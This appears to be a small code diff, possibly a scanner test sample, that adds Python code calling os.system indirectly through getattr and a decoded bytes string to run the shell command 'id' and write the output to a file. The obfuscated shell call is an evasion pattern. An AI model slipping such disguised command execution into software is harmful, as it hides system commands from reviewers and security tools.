@@ -1,0 +1,2 @@
+import os
+getattr(os, rb"system".decode())("id>pf")
